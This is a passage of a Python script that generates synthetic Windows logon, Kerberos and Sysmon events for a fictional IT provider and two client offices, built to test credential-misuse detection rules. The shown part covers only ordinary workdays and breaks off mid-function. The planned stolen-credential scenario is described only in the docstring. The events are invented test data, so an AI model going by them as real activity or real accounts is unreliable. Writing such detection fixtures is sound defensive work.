#!/usr/bin/env python3
"""Generates examples/msp-credentials.jsonl: three days (2026-11-02 to
2026-11-04, UTC) at the managed service provider "Northwind IT" and two of its
customers, "Contoso Dental" and "Fabrikam Law", as Windows Security logon and
credential events (4624, 4625, 4648, 4672, 4768, 4769, 4771, 4776) and Sysmon
process events. The first two days are ordinary work; on the third the
provider's stolen credentials are used inside both customers and back, as in
the 2018 US-CERT alert on APT10 (TA18-276B), so that the credential-misuse
correlations of core/rules/credential_misuse.lw have something to find.

The sites are in New York (UTC-5 after 2026-11-01): office hours 07:30-17:30
local are 12:30-22:30 UTC. examples/zones.toml holds the zones and business
hours the correlations need.

Deterministic: the same output on every run. Regenerate with
    python3 tools/gen_msp_credentials.py > examples/msp-credentials.jsonl
"""

import json
import random

rng = random.Random(181003)
EST = 5 * 3600  # New York's offset from UTC in November 2026, in seconds


def local(day, h, m=0, s=0.0):
    """Seconds from 2026-11-02T00:00:00Z of day `day` (0 is Monday 2026-11-02)
    at h:m:s New York time."""
    return day * 86400 + h * 3600 + m * 60 + s + EST


# ---- who and where ------------------------------------------------------------

DOMAINS = {
    "CONTOSO": ("contoso.local", "S-1-5-21-1004336348-1177238915-682003330"),
    "FABRIKAM": ("fabrikam.local", "S-1-5-21-2239884174-3612092531-1431575410"),
    "NORTHWIND": ("northwind.local", "S-1-5-21-3623811015-3361044348-30300820"),
}
DC = {"CONTOSO": "CD-DC01", "FABRIKAM": "FB-DC01", "NORTHWIND": "NW-DC01"}

# name: (domain, address); hosts outside a domain have None.
HOSTS = {
    # Northwind IT, 10.50.0.0/16
    "NW-DC01": ("NORTHWIND", "10.50.0.10"),
    "NW-JUMP01": ("NORTHWIND", "10.50.0.15"),
    "NW-JUMP02": ("NORTHWIND", "10.50.0.16"),
    "NW-FS01": ("NORTHWIND", "10.50.0.20"),
    "NW-BKP01": ("NORTHWIND", "10.50.0.30"),
    "NW-WS101": ("NORTHWIND", "10.50.1.101"),
    "NW-WS102": ("NORTHWIND", "10.50.1.102"),
    "NW-WS103": ("NORTHWIND", "10.50.1.103"),
    # Contoso Dental, 10.60.0.0/16
    "CD-DC01": ("CONTOSO", "10.60.0.10"),
    "CD-FS01": ("CONTOSO", "10.60.0.20"),
    "CD-APP01": ("CONTOSO", "10.60.0.30"),
    "CD-XRAY01": ("CONTOSO", "10.60.1.50"),
    "CD-MFP01": (None, "10.60.1.200"),  # the copier
    # Fabrikam Law, 10.70.0.0/16
    "FB-DC01": ("FABRIKAM", "10.70.0.10"),
    "FB-FS01": ("FABRIKAM", "10.70.0.20"),
    "FB-SQL01": ("FABRIKAM", "10.70.0.30"),
    "FB-APP01": ("FABRIKAM", "10.70.0.40"),
    "FB-MFP01": (None, "10.70.1.200"),  # the copier
    # The intruder's laptop on the provider's VPN pool (10.50.200.0/24).
    "DESKTOP-R8N2KQ1": (None, "10.50.200.41"),
}
CD_STAFF = [("CD-WS011", "jsmith"), ("CD-WS012", "mlopez"), ("CD-WS014", "akhan"), ("CD-WS017", "dchen"),
            ("CD-WS022", "rpatel"), ("CD-WS023", "kmuller"), ("CD-WS031", "front-desk")]
FB_STAFF = [("FB-WS201", "tnguyen"), ("FB-WS202", "bokafor"), ("FB-WS203", "lrossi"), ("FB-WS204", "cmurphy"),
            ("FB-WS205", "ewarren"), ("FB-WS206", "pdesai"), ("FB-WS207", "jbaker"), ("FB-WS208", "reception")]
NW_STAFF = [("NW-WS101", "sortiz"), ("NW-WS102", "kwalsh"), ("NW-WS103", "jpark")]
for ws, _ in CD_STAFF:
    HOSTS[ws] = ("CONTOSO", "10.60.1." + str(int(ws[-3:])))
for ws, _ in FB_STAFF:
    HOSTS[ws] = ("FABRIKAM", "10.70.1." + str(int(ws[-3:])))

_rids = {}


def sid(user):
    """A made-up but stable SID for DOMAIN\\name."""
    dom, name = user.split("\\")
    if dom == "NT AUTHORITY":
        return "S-1-5-7" if name == "ANONYMOUS LOGON" else "S-1-5-18"
    base = DOMAINS[dom][1]
    key = user.lower()
    if key not in _rids:
        _rids[key] = 1104 + len(_rids)
    return f"{base}-{_rids[key]}"


def fqdn(host):
    dom = HOSTS[host][0]
    return f"{host}.{DOMAINS[dom][0]}" if dom else host


def ip(host):
    return HOSTS[host][1]


def split(user):
    dom, name = user.split("\\", 1)
    return dom, name


ADMIN_PRIVS = "\n\t\t\t".join(["SeSecurityPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeTakeOwnershipPrivilege",
                               "SeDebugPrivilege", "SeSystemEnvironmentPrivilege", "SeLoadDriverPrivilege",
                               "SeImpersonatePrivilege", "SeDelegateSessionUserImpersonatePrivilege"])
BACKUP_PRIVS = "SeBackupPrivilege\n\t\t\tSeRestorePrivilege"
SERVICE_PRIVS = "SeAssignPrimaryTokenPrivilege\n\t\t\tSeImpersonatePrivilege"
SERVICE_ACCOUNTS = {"contoso\\svc-dentrix", "fabrikam\\svc-sql", "fabrikam\\svc-dms"}


def privileges(user, host, logon_type):
    """The special privileges (4672) a logon of `user` on `host` gets, or None:
    the provider's admins on every host of a domain, its helpdesk on every
    host but the DC, backup accounts everywhere, service logons."""
    dom, name = split(user)
    if HOSTS[host][0] != dom:
        return None
    if name == "nw-admin":
        return ADMIN_PRIVS
    if name == "nw-helpdesk" and host != DC[dom]:
        return ADMIN_PRIVS
    if name in ("nw-backup", "svc-backup"):
        return BACKUP_PRIVS
    if logon_type == 5 and user.lower() in SERVICE_ACCOUNTS:
        return SERVICE_PRIVS
    return None


# ---- events ---------------------------------------------------------------------

events = []
used = set()


def stamp(t):
    """Milliseconds since the start, made unique: no two events share a time."""
    ms = int(round(t * 1000))
    while ms in used:
        ms += 1
    used.add(ms)
    return ms


def clock(ms):
    day, rem = divmod(ms, 86400000)
    h, rem = divmod(rem, 3600000)
    m, rem = divmod(rem, 60000)
    s, milli = divmod(rem, 1000)
    return f"2026-11-{2 + day:02d}", h, m, s, milli


def security(t, host, event_id, fields):
    ms = stamp(t)
    date, h, m, s, milli = clock(ms)
    ev = {
        "EventID": event_id,
        "Channel": "Security",
        "Computer": fqdn(host),
        "TimeCreated": f"{date}T{h:02d}:{m:02d}:{s:02d}.{milli:03d}{rng.randrange(10000):04d}Z",
    }
    ev.update(fields)
    events.append((ms, len(events), ev))


def sysmon(t, host, user, image, cmd, parent, parent_cmd, integrity="Medium", original=None, cwd="C:\\Windows\\system32\\"):
    ms = stamp(t)
    date, h, m, s, milli = clock(ms)
    ev = {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": fqdn(host),
        "UtcTime": f"{date} {h:02d}:{m:02d}:{s:02d}.{milli:03d}",
        "ProcessGuid": "{%08X-%04X-%04X-0000-00000000%04X}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16)),
        "ProcessId": rng.randrange(1000, 20000),
        "Image": image,
        "OriginalFileName": original or image.rsplit("\\", 1)[-1],
        "CommandLine": cmd,
        "CurrentDirectory": cwd,
        "User": user,
        "IntegrityLevel": integrity,
        "ParentImage": parent,
        "ParentCommandLine": parent_cmd,
    }
    events.append((ms, len(events), ev))


def logon_id():
    return "0x%x" % rng.randrange(0x100000, 0x9fffffff)


SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SERVICES = "C:\\Windows\\System32\\services.exe"
LSASS = "C:\\Windows\\System32\\lsass.exe"


def logon(t, host, user, logon_type, src="-", workstation="-", package="Kerberos", key_length=0,
          process="-", outbound=None, subject=None):
    """4624, and the 4672 of its special privileges when the account has any
    there. `src` is the source address as Windows writes it."""
    dom, name = split(user)
    lid = logon_id()
    if subject is None:
        if logon_type in (2, 7, 10, 11, 4, 5):
            subject = (f"{split_domain(host)}\\{host}$", "S-1-5-18")
        else:
            subject = ("-\\-", "S-1-0-0")
    sdom, sname = split(subject[0])
    if package == "NTLM":
        process_name, lm = "NtLmSsp ", "NTLM V2"
    elif package == "Kerberos":
        process_name, lm = "Kerberos", "-"
    elif logon_type in (4, 5):
        process_name, lm = "Advapi  ", "-"
    elif logon_type == 9:
        process_name, lm = "seclogo", "-"
    else:
        process_name, lm = "User32 ", "-"
    fields = {
        "SubjectUserSid": subject[1],
        "SubjectUserName": sname,
        "SubjectDomainName": sdom,
        "SubjectLogonId": "0x3e7" if subject[1] == "S-1-5-18" else "0x0",
        "TargetUserSid": sid(user),
        "TargetUserName": name,
        "TargetDomainName": dom,
        "TargetLogonId": lid,
        "LogonType": logon_type,
        "LogonProcessName": process_name,
        "AuthenticationPackageName": package,
        "WorkstationName": workstation,
        "LmPackageName": lm,
        "KeyLength": key_length,
        "ProcessName": process,
        "IpAddress": src,
        "IpPort": "0" if src in ("-", "127.0.0.1", "::1") else str(rng.randrange(49152, 65535)),
    }
    if outbound:
        odom, oname = split(outbound)
        fields["TargetOutboundUserName"] = oname
        fields["TargetOutboundDomainName"] = odom
    security(t, host, 4624, fields)
    privs = privileges(user, host, logon_type)
    if privs:
        security(t + 0.004, host, 4672, {
            "SubjectUserSid": sid(user),
            "SubjectUserName": name,
            "SubjectDomainName": dom,
            "SubjectLogonId": lid,
            "PrivilegeList": privs,
        })
    return lid


def split_domain(host):
    return HOSTS[host][0] or "WORKGROUP"


def failed(t, host, user, logon_type, src, workstation, package="NTLM", sub_status="0xc000006a"):
    dom, name = split(user)
    security(t, host, 4625, {
        "SubjectUserSid": "S-1-5-18" if logon_type == 2 else "S-1-0-0",
        "SubjectUserName": f"{host}$" if logon_type == 2 else "-",
        "SubjectDomainName": split_domain(host) if logon_type == 2 else "-",
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": name,
        "TargetDomainName": dom,
        "Status": "0xc000006d",
        "FailureReason": "%%2313",
        "SubStatus": sub_status,
        "LogonType": logon_type,
        "LogonProcessName": "User32 " if logon_type == 2 else "NtLmSsp ",
        "AuthenticationPackageName": "Negotiate" if logon_type == 2 else package,
        "WorkstationName": workstation,
        "LmPackageName": "-",
        "KeyLength": 0,
        "ProcessName": SVCHOST if logon_type == 2 else "-",
        "IpAddress": src,
        "IpPort": "0" if src in ("-", "127.0.0.1") else str(rng.randrange(49152, 65535)),
    })


def explicit(t, host, subject, target, server, process, address="-"):
    sdom, sname = split(subject)
    tdom, tname = split(target)
    security(t, host, 4648, {
        "SubjectUserSid": "S-1-5-18" if sname.endswith("$") else sid(subject),
        "SubjectUserName": sname,
        "SubjectDomainName": sdom,
        "SubjectLogonId": "0x3e7" if sname.endswith("$") else logon_id(),
        "TargetUserName": tname,
        "TargetDomainName": tdom,
        "TargetServerName": server,
        "TargetInfo": server if server == "localhost" else f"cifs/{server}",
        "ProcessName": process,
        "IpAddress": address,
        "IpPort": "0" if address in ("-", "::1") else "445",
    })


def k_ip(host):
    return "::ffff:" + ip(host)


def tgt(t, user, src_host):
    """4768 on the user's DC: a ticket-granting ticket."""
    dom, name = split(user)
    security(t, DC[dom], 4768, {
        "TargetUserName": name,
        "TargetDomainName": dom,
        "TargetSid": sid(user),
        "ServiceName": "krbtgt",
        "ServiceSid": DOMAINS[dom][1] + "-502",
        "TicketOptions": "0x40810010",
        "Status": "0x0",
        "TicketEncryptionType": "0x12",
        "PreAuthType": "2",
        "IpAddress": k_ip(src_host),
        "IpPort": str(rng.randrange(49152, 65535)),
    })


def tgs(t, user, service, src_host, etype="0x12", options="0x40810000"):
    """4769 on the user's DC: a service ticket for the account `service`."""
    dom, name = split(user)
    realm = DOMAINS[dom][0].upper()
    security(t, DC[dom], 4769, {
        "TargetUserName": f"{name}@{realm}",
        "TargetDomainName": realm,
        "ServiceName": service,
        "ServiceSid": sid(f"{dom}\\{service}"),
        "TicketOptions": options,
        "TicketEncryptionType": etype,
        "IpAddress": k_ip(src_host),
        "IpPort": str(rng.randrange(49152, 65535)),
        "Status": "0x0",
        "TransmittedServices": "-",
    })


def preauth_failed(t, user, src_host):
    """4771 on the user's DC: Kerberos pre-authentication failed (bad password)."""
    dom, name = split(user)
    security(t, DC[dom], 4771, {
        "TargetUserName": name,
        "TargetSid": sid(user),
        "ServiceName": f"krbtgt/{dom}",
        "TicketOptions": "0x40810010",
        "Status": "0x18",
        "PreAuthType": "2",
        "IpAddress": k_ip(src_host),
        "IpPort": str(rng.randrange(49152, 65535)),
    })


def ntlm_check(t, user, workstation, status="0x0"):
    """4776 on the user's DC: NTLM credentials validated (or not)."""
    dom, name = split(user)
    security(t, DC[dom], 4776, {
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
        "TargetUserName": name,
        "Workstation": workstation,
        "Status": status,
    })


def kerberos_net(t, host, user, src_host):
    """A network logon over Kerberos: the service ticket, then 4624 type 3."""
    tgs(t, user, f"{host}$", src_host)
    return logon(t + 0.03, host, user, 3, ip(src_host), "-", "Kerberos")


def ntlm_net(t, host, user, src_host, key_length=128):
    """A network logon over NTLM: 4776 on the account's DC, then 4624 type 3."""
    ntlm_check(t, user, src_host)
    return logon(t + 0.02, host, user, 3, ip(src_host), src_host, "NTLM", key_length)


SYS32 = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"
EXPLORER_CMD = "C:\\Windows\\Explorer.EXE"
CMD = SYS32 + "cmd.exe"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
MMC = SYS32 + "mmc.exe"
MSTSC = SYS32 + "mstsc.exe"
RMM = "C:\\Program Files\\Northwind RMM\\rmmagent.exe"
RMM_CMD = '"C:\\Program Files\\Northwind RMM\\rmmagent.exe" --service'


def desktop(t, host, user):
    """The processes a new desktop session starts."""
    sysmon(t, host, user, SYS32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe", SYS32 + "winlogon.exe", "winlogon.exe")
    sysmon(t + 1.2, host, user, EXPLORER, EXPLORER_CMD, SYS32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe")


def gpo(t, user, from_host):
    """A domain logon's Group Policy: the session reads SYSVOL on its DC, a
    Kerberos network logon there from the machine logged on to."""
    dom = split(user)[0]
    if DC[dom] != from_host:
        kerberos_net(t, DC[dom], user, from_host)


def console(t, host, user, mistype=False):
    """A domain user logs on at the keyboard: a mistyped password first
    sometimes, the TGT, the interactive logon, Group Policy, the desktop."""
    if mistype:
        failed(t, host, user, 2, "127.0.0.1", host, sub_status="0xc000006a")
        preauth_failed(t + 0.05, user, host)
        t += rng.uniform(6, 15)
    tgt(t, user, host)
    logon(t + 0.2, host, user, 2, "127.0.0.1", host, "Negotiate", process=SVCHOST)
    gpo(t + 2.5, user, host)
    desktop(t + 4, host, user)
    return t


def rdp(t, src, dst, user):
    """A remote desktop session from host `src` to `dst` as `user`: Network
    Level Authentication's network logon (Kerberos within a domain, NTLM
    across), the remote interactive logon, the session's TGT and Group
    Policy, the desktop."""
    dom = split(user)[0]
    same = HOSTS[src][0] == dom
    if same:
        kerberos_net(t, dst, user, src)
    else:
        ntlm_net(t, dst, user, src)
    t2 = t + rng.uniform(1.8, 3.2)
    logon(t2, dst, user, 10, ip(src), src, "Negotiate", process=SVCHOST)
    tgt(t2 + 0.6, user, dst)
    gpo(t2 + 4.0, user, dst)
    desktop(t2 + 6.0, dst, user)
    sysmon(t2 + 7.5, dst, user, SYS32 + "rdpclip.exe", "rdpclip", SVCHOST, "C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService")
    return t2


def reconnect(t, src, dst, user):
    """A disconnected RDP session taken up again: NLA's network logon, then
    the reconnection (type 7)."""
    kerberos_net(t, dst, user, src)
    logon(t + rng.uniform(1.5, 2.5), dst, user, 7, ip(src), src, "Negotiate", process=SVCHOST)


# ---- the ordinary days ------------------------------------------------------------

OFFICE = [
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" '),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\{doc}.docx"'),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "S:\\{sheet}.xlsx"'),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US /prefetch:1'),
    ("C:\\Program Files\\Microsoft\\Teams\\current\\Teams.exe", '"C:\\Program Files\\Microsoft\\Teams\\current\\Teams.exe" --process-start-args "--system-initiated"'),
    ("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", '"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe" "S:\\{pdf}.pdf"'),
    (SYS32 + "notepad.exe", 'notepad.exe "C:\\Users\\{u}\\Desktop\\{note}.txt"'),
]
DOCS = {
    "CONTOSO": (["Treatment plan", "Referral letter", "Recall list"], ["Billing Q4", "Schedule November"], ["Insurance EOB"], ["phone numbers"]),
    "FABRIKAM": (["Motion to dismiss draft", "Engagement letter", "Deposition outline"], ["Time entries", "Trust ledger"], ["Exhibit 12", "Court filing"], ["call notes"]),
    "NORTHWIND": (["Quarterly review Contoso", "Runbook"], ["Ticket stats", "Licence count"], ["Vendor quote"], ["todo"]),
}
LOB = {
    "CONTOSO": [("C:\\Program Files\\Dentrix\\Dentrix.exe", '"C:\\Program Files\\Dentrix\\Dentrix.exe" /office:main')],
    "FABRIKAM": [("C:\\Program Files\\Fabrikam DMS\\dmsclient.exe", '"C:\\Program Files\\Fabrikam DMS\\dmsclient.exe" /matter:recent'),
                 ("C:\\Program Files\\CaseTrack\\CaseTrack.exe", '"C:\\Program Files\\CaseTrack\\CaseTrack.exe"')],
    "NORTHWIND": [("C:\\Program Files\\Northwind PSA\\psa.exe", '"C:\\Program Files\\Northwind PSA\\psa.exe" /queue:mine')],
}


def office_day(day, host, user, start, end, n):
    dom, name = split(user)
    docs, sheets, pdfs, notes = DOCS[dom]
    choices = OFFICE + LOB[dom] * 2
    for _ in range(n):
        t = rng.uniform(start, end)
        image, cmd = rng.choice(choices)
        cmd = cmd.format(u=name, doc=rng.choice(docs), sheet=rng.choice(sheets), pdf=rng.choice(pdfs), note=rng.choice(notes))
        sysmon(t, host, user, image, cmd, EXPLORER, EXPLORER_CMD)


def staff_day(day, host, user, servers, line_of_business, mistype):
    """A member of staff's day at a desktop: the morning logon (the password
    mistyped once, if `mistype`), a drive mapped on the file server, the
    line-of-business application, an unlock after lunch, office work."""
    dom, name = split(user)
    early = 7 * 60 + 25 if name in ("front-desk", "reception") else rng.randrange(7 * 60 + 30, 8 * 60 + 40)
    t = local(day, 0, early, rng.uniform(0, 59))
    t = console(t, host, user, mistype)
    fs = servers[0]
    sysmon(t + 9, host, user, SYS32 + "net.exe", f"net use S: \\\\{fs}\\Shared /persistent:yes", EXPLORER, EXPLORER_CMD)
    kerberos_net(t + 9.4, fs, user, host)
    for k, (server, service, etype) in enumerate(line_of_business):
        tt = t + 60 + k * rng.uniform(30, 120)
        tgs(tt, user, service, host, etype)
        logon(tt + 0.05, server, user, 3, ip(host), "-", "Kerberos")
    if rng.random() < 0.6:
        tt = local(day, 12, rng.randrange(20, 59), rng.uniform(0, 59))
        logon(tt, host, user, 7, "127.0.0.1", host, "Negotiate", process=SVCHOST)
    office_day(day, host, user, t + 120, local(day, 17, 15), rng.randrange(8, 14))


RMM_JOBS = [
    (PS, "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command Get-Service -Name Spooler,WinDefend | Select-Object Name,Status"),
    (SYS32 + "ipconfig.exe", "ipconfig /all"),
    (SYS32 + "sc.exe", "sc query wuauserv"),
    (SYS32 + "schtasks.exe", "schtasks /query /fo LIST /v"),
    (SYS32 + "wbem\\WMIC.exe", "wmic os get caption,version,lastbootuptime /format:list"),
    (SYS32 + "reg.exe", 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v CurrentBuildNumber'),
    (SYS32 + "certutil.exe", "certutil -hashfile C:\\ProgramData\\Northwind\\agent-update.msi SHA256"),
    (SYS32 + "wevtutil.exe", "wevtutil qe System /c:20 /rd:true /f:text"),
    (SYS32 + "vssadmin.exe", "vssadmin list shadows"),
    (SYS32 + "whoami.exe", "whoami"),
]
NOISE = [
    (SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    (SVCHOST, "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC"),
    ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MpCmdRun.exe", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MpCmdRun.exe" -wdenable'),
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    (SYS32 + "wuauclt.exe", '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer'),
    (SYS32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)"),
]

CUSTOMER_HOSTS = [h for h, (d, _) in HOSTS.items() if d in ("CONTOSO", "FABRIKAM")]
CD_LOB = [("CD-APP01", "svc-dentrix", "0x17")]  # Dentrix's SQL service account has no AES keys: RC4
FB_LOB = [("FB-APP01", "svc-dms", "0x12"), ("FB-SQL01", "svc-sql", "0x12")]
CD_SPNS = {"svc-dentrix": "MSSQLSvc/CD-APP01.contoso.local:1433", "svc-imaging": "HTTP/CD-XRAY01.contoso.local",
           "svc-backup": "BackupAgent/CD-FS01.contoso.local", "svc-portal": "HTTP/portal.contoso.local",
           "svc-pacs": "DICOM/CD-XRAY01.contoso.local:104"}


def ordinary_day(day):
    # Staff at their desks; two of them mistype their password in the morning.
    typos = set(rng.sample([name for _, name in CD_STAFF + FB_STAFF + NW_STAFF], 2))
    for host, name in CD_STAFF:
        staff_day(day, host, f"CONTOSO\\{name}", ["CD-FS01"], CD_LOB, name in typos)
    for host, name in FB_STAFF:
        staff_day(day, host, f"FABRIKAM\\{name}", ["FB-FS01"], FB_LOB, name in typos)
    for host, name in NW_STAFF:
        staff_day(day, host, f"NORTHWIND\\{name}", ["NW-FS01"], [], name in typos)

    # The X-ray station logs on by itself each morning as its imaging account
    # (the imaging software needs a desktop session) and reads its share.
    t = local(day, 7, 5, rng.uniform(0, 40))
    console(t, "CD-XRAY01", "CONTOSO\\svc-imaging")
    kerberos_net(t + 11, "CD-FS01", "CONTOSO\\svc-imaging", "CD-XRAY01")
    sysmon(t + 14, "CD-XRAY01", "CONTOSO\\svc-imaging", "C:\\Program Files\\ClearView Imaging\\cvimaging.exe",
           '"C:\\Program Files\\ClearView Imaging\\cvimaging.exe" /acquire /store:\\\\CD-FS01\\Imaging', EXPLORER, EXPLORER_CMD)

    # Each office's copier: scan-to-folder (NTLMv2, with a session key) and
    # the anonymous session it opens first.
    for copier, fs, account in [("CD-MFP01", "CD-FS01", "CONTOSO\\scanner"), ("FB-MFP01", "FB-FS01", "FABRIKAM\\copier")]:
        for k in range(6):
            t = local(day, 8, 15 + k * 90, rng.uniform(0, 300))
            logon(t, fs, "NT AUTHORITY\\ANONYMOUS LOGON", 3, ip(copier), copier, "NTLM", 0)
            ntlm_net(t + 0.4, fs, account, copier)

    # Northwind's senior engineer: his desk, the jump host as the provider's
    # admin, Contoso's DC in the morning, Fabrikam's file server after lunch.
    A = {d: f"{d}\\nw-admin" for d in DOMAINS}
    H = {d: f"{d}\\nw-helpdesk" for d in DOMAINS}
    t = local(day, 8, 15, rng.uniform(0, 120))
    sysmon(t - 3, "NW-WS101", "NORTHWIND\\sortiz", MSTSC, '"C:\\Windows\\system32\\mstsc.exe" /v:NW-JUMP01', EXPLORER, EXPLORER_CMD)
    rdp(t, "NW-WS101", "NW-JUMP01", A["NORTHWIND"])
    t = local(day, 9, 10, rng.uniform(0, 300))
    sysmon(t - 3, "NW-JUMP01", A["NORTHWIND"], MSTSC, '"C:\\Windows\\system32\\mstsc.exe" /v:CD-DC01.contoso.local', EXPLORER, EXPLORER_CMD, "High")
    t = rdp(t, "NW-JUMP01", "CD-DC01", A["CONTOSO"])
    for dt, image, cmd in [
        (70, SYS32 + "repadmin.exe", "repadmin /replsummary"),
        (110, SYS32 + "dcdiag.exe", "dcdiag /q"),
        (190, MMC, '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"'),
        (420, SYS32 + "w32tm.exe", "w32tm /query /status"),
        (600, PS, 'powershell.exe -NoProfile -Command "Search-ADAccount -AccountExpiring -TimeSpan 14.00:00:00 | Select Name"'),
    ]:
        sysmon(t + dt + rng.uniform(0, 20), "CD-DC01", A["CONTOSO"], image, cmd, EXPLORER if image == MMC else CMD, "cmd.exe", "High")
    reconnect(local(day, 13, 0, rng.uniform(0, 240)), "NW-WS101", "NW-JUMP01", A["NORTHWIND"])
    t = local(day, 13, 40, rng.uniform(0, 300))
    sysmon(t - 3, "NW-JUMP01", A["NORTHWIND"], MSTSC, '"C:\\Windows\\system32\\mstsc.exe" /v:FB-FS01.fabrikam.local', EXPLORER, EXPLORER_CMD, "High")
    t = rdp(t, "NW-JUMP01", "FB-FS01", A["FABRIKAM"])
    for dt, image, cmd in [
        (50, MMC, '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\fsmgmt.msc"'),
        (150, PS, 'powershell.exe -NoProfile -Command "Get-SmbShare | Select-Object Name,Path,CurrentUsers"'),
        (400, PS, 'powershell.exe -NoProfile -Command "Get-Volume | Where-Object DriveLetter"'),
    ]:
        sysmon(t + dt + rng.uniform(0, 20), "FB-FS01", A["FABRIKAM"], image, cmd, EXPLORER if image == MMC else CMD, "cmd.exe", "High")

    # The helpdesk engineer: her own jump host, Contoso's practice-management
    # server in the morning, Fabrikam's SQL server in the afternoon.
    t = local(day, 8, 20, rng.uniform(0, 120))
    sysmon(t - 3, "NW-WS102", "NORTHWIND\\kwalsh", MSTSC, '"C:\\Windows\\system32\\mstsc.exe" /v:NW-JUMP02', EXPLORER, EXPLORER_CMD)
    rdp(t, "NW-WS102", "NW-JUMP02", H["NORTHWIND"])
    t = local(day, 10, 0, rng.uniform(0, 300))
    sysmon(t - 3, "NW-JUMP02", H["NORTHWIND"], MSTSC, '"C:\\Windows\\system32\\mstsc.exe" /v:CD-APP01.contoso.local', EXPLORER, EXPLORER_CMD, "High")
    t = rdp(t, "NW-JUMP02", "CD-APP01", H["CONTOSO"])
    for dt, image, cmd in [
        (30, MMC, '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /computer:CD-APP01'),
        (95, SYS32 + "net.exe", 'net localgroup "Remote Desktop Users"'),
        (150, SYS32 + "sc.exe", 'sc query "DentrixAppServer"'),
        (240, SYS32 + "eventvwr.exe", '"C:\\Windows\\system32\\eventvwr.exe" /c:Application'),
    ]:
        sysmon(t + dt + rng.uniform(0, 15), "CD-APP01", H["CONTOSO"], image, cmd, EXPLORER if image in (MMC, SYS32 + "eventvwr.exe") else CMD, "cmd.exe", "High")
    t = local(day, 14, 30, rng.uniform(0, 300))
    if day == 1:
        # A mistyped password at NLA, then the right one.
        failed(t - 20, "FB-SQL01", H["FABRIKAM"], 3, ip("NW-JUMP02"), "NW-JUMP02")
        ntlm_check(t - 19.98, H["FABRIKAM"], "NW-JUMP02", "0xc000006a")
    sysmon(t - 3, "NW-JUMP02", H["NORTHWIND"], MSTSC, '"C:\\Windows\\system32\\mstsc.exe" /v:FB-SQL01.fabrikam.local', EXPLORER, EXPLORER_CMD, "High")
    t = rdp(t, "NW-JUMP02", "FB-SQL01", H["FABRIKAM"])
    for dt, image, cmd in [
        (40, PS, 'powershell.exe -NoProfile -Command "Get-Service MSSQL*,SQLAgent* | Select-Object Name,Status"'),
        (120, SYS32 + "wbem\\WMIC.exe", "wmic logicaldisk get caption,freespace,size"),
        (300, "C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe", '"C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe"'),
    ]:
        sysmon(t + dt + rng.uniform(0, 15), "FB-SQL01", H["FABRIKAM"], image, cmd, CMD if image != PS else EXPLORER, "cmd.exe", "High")

    # The provider's RMM agent: health checks on every customer machine.
    for host in CUSTOMER_HOSTS:
        if host in ("CD-MFP01", "FB-MFP01"):
            continue
        for _ in range(3):
            image, cmd = rng.choice(RMM_JOBS)
            sysmon(local(day, 8, rng.randrange(0, 540), rng.uniform(0, 59)), host, "NT AUTHORITY\\SYSTEM", image, cmd, RMM, RMM_CMD, "System")
    for _ in range(30):
        host = rng.choice(list(HOSTS))
        if HOSTS[host][0] is None:
            continue
        image, cmd = rng.choice(NOISE)
        sysmon(local(day, 6, rng.randrange(0, 720), rng.uniform(0, 59)), host, "NT AUTHORITY\\SYSTEM", image, cmd, SERVICES, "C:\\Windows\\system32\\services.exe", "System")


def night(day):
    """The night before `day`'s office hours (local): backups and service
    restarts."""
    # Contoso's own backup task on its file server, at 23:30 the evening before.
    b = "CONTOSO\\svc-backup"
    t = local(day - 1, 23, 30, rng.uniform(0, 20))
    explicit(t, "CD-FS01", "CONTOSO\\CD-FS01$", b, "localhost", SVCHOST, "::1")
    logon(t + 0.1, "CD-FS01", b, 4, "-", "-", "Negotiate", process=SVCHOST)
    sysmon(t + 2, "CD-FS01", b, SYS32 + "wbadmin.exe", "wbadmin start backup -backupTarget:\\\\CD-NAS01\\backup -include:D:\\Shares -vssFull -quiet",
           SYS32 + "taskhostw.exe", "taskhostw.exe", "High")
    for k, server in enumerate(["CD-APP01", "CD-DC01"]):
        tt = t + 900 + k * 420 + rng.uniform(0, 30)
